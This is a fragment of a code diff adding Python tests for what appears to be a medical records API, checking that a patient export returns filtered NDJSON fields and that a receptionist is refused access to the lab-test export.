+        import json
+
+        self._patients(3)
+        api_client.force_authenticate(user=doctor_user)
+        response = api_client.get(
+            "/api/v1/patients/export/",
+            {"format": "ndjson", "search": "EXP001", "fields": "unique_id,last_name"},
+        )
+        lines = [json.loads(line) for line in self._content(response).splitlines()]
+        assert lines == [{"unique_id": "EXP001", "last_name": "Row1"}]
+
+    def test_export_respects_permissions(self, api_client, receptionist_user):
+        api_client.force_authenticate(user=receptionist_user)
+        assert api_client.get("/api/v1/lab-tests/export/").status_code == 403